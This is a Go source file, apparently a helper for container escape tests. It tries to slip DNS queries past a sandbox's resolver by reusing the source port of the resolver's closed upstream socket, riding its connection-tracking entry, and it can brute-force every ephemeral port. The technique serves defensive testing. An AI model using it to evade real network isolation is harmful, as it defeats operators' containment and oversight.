// Command dnsreuse is copied into a test container by the e2e escape tests
// (runner/e2e/escape_test.go, "conntrack reuse"). It tries to reach the
// upstream DNS forwarder without the resolver's socket mark by riding on a
// connection-tracking entry the resolver left: it makes the container's
// resolver forward names below a listed one, watches /proc/net/udp of the
// netns for the resolver's upstream socket (a fresh source port per query),
// and once that socket is closed binds the same port itself and sends a
// query for reuse-<port>.<zone> to the forwarder. It prints one JSON line:
// the ports it saw and the ones whose query got any answer. With -brute it
// also tries every ephemeral port (the resolver's sockets live for one
// exchange, too briefly to be seen every time). Queries are built by hand
// (RFC 1035 §4.1): standard library only.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

func main() {
	resolver := flag.String("resolver", "127.0.0.1:53", "the container's resolver")
	name := flag.String("name", "", "a listed name: the resolver is asked r<N>.<name>")
	upstream := flag.String("upstream", "10.0.2.3:53", "the forwarder the resolver uses")
	zone := flag.String("zone", "reuse.invalid", "smuggled queries ask reuse-<port>.<zone>")
	brute := flag.Bool("brute", false, "also try every port of the ephemeral range")
	flag.Parse()
	up, err := netip.ParseAddrPort(*upstream)
	if err != nil || !up.Addr().Is4() || *name == "" {
		fmt.Fprintln(os.Stderr, "dnsreuse: -name is required and -upstream must be IPv4:port")
		os.Exit(2)
	}
	remote := procAddr(up)

	seen := map[int]bool{}
	var mu sync.Mutex
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, p := range ports(remote) {
				mu.Lock()
				seen[p] = true
				mu.Unlock()
			}
		}
	}()
	time.Sleep(20 * time.Millisecond)
	// The resolver's socket lives for one exchange: ask several names
	// (distinct, so no cache answers), each a fresh upstream socket and
	// conntrack entry.
	resolved := false
	for i := 0; i < 20; i++ {
		if ask(*resolver, 0, "r"+strconv.Itoa(i)+"."+*name, 3*time.Second) {
			resolved = true
		}
	}
	time.Sleep(50 * time.Millisecond) // the resolver closes its socket after the answer
	close(stop)
	<-done

	todo := map[int]bool{}
	for p := range seen {
		todo[p] = true
	}
	if *brute {
		lo, hi := ephemeral()
		for p := lo; p <= hi; p++ {
			todo[p] = true
		}
	}
	ports := make(chan int)
	var answered []int
	var wg sync.WaitGroup
	for w := 0; w < 128; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p := range ports {
				if ask(*upstream, p, "reuse-"+strconv.Itoa(p)+"."+*zone, 100*time.Millisecond) {
					mu.Lock()
					answered = append(answered, p)
					mu.Unlock()
				}
			}
		}()
	}
	for p := range todo {
		ports <- p
	}
	close(ports)
	wg.Wait()
	_ = json.NewEncoder(os.Stdout).Encode(map[string]any{
		"resolved": resolved, "seen": len(seen), "tried": len(todo), "answered": answered,
	})
}

// procAddr is addr as /proc/net/udp prints it: the address as a host-order
// 32-bit hex number, the port in hex.
func procAddr(a netip.AddrPort) string {
	b := a.Addr().As4()
	return fmt.Sprintf("%08X:%04X", binary.LittleEndian.Uint32(b[:]), a.Port())
}

// ports returns the local ports of the netns's UDP sockets connected to remote.
func ports(remote string) []int {
	f, err := os.Open("/proc/net/udp")
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []int
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 3 || fields[2] != remote {
			continue
		}
		if i := strings.IndexByte(fields[1], ':'); i >= 0 {
			if p, err := strconv.ParseUint(fields[1][i+1:], 16, 16); err == nil {
				out = append(out, int(p))
			}
		}
	}
	return out
}

func ephemeral() (int, int) {
	b, err := os.ReadFile("/proc/sys/net/ipv4/ip_local_port_range")
	if f := strings.Fields(string(b)); err == nil && len(f) == 2 {
		lo, err1 := strconv.Atoi(f[0])
		hi, err2 := strconv.Atoi(f[1])
		if err1 == nil && err2 == nil {
			return lo, hi
		}
	}
	return 32768, 60999
}

// ask sends an A query for name to server from local port port (0: any)
// and reports whether any answer came back within wait.
func ask(server string, port int, name string, wait time.Duration) bool {
	raddr, err := net.ResolveUDPAddr("udp4", server)
	if err != nil {
		return false
	}
	c, err := net.DialUDP("udp4", &net.UDPAddr{Port: port}, raddr)
	if err != nil {
		return false
	}
	defer c.Close()
	if _, err := c.Write(query(uint16(port), name)); err != nil {
		return false
	}
	_ = c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 1500)
	n, err := c.Read(buf)
	return err == nil && n >= 12
}

func query(id uint16, name string) []byte {
	b := make([]byte, 12, 64)
	binary.BigEndian.PutUint16(b[0:], id)
	binary.BigEndian.PutUint16(b[2:], 0x0100)
	binary.BigEndian.PutUint16(b[4:], 1)
	for _, label := range strings.Split(name, ".") {
		b = append(b, byte(len(label)))
		b = append(b, label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}
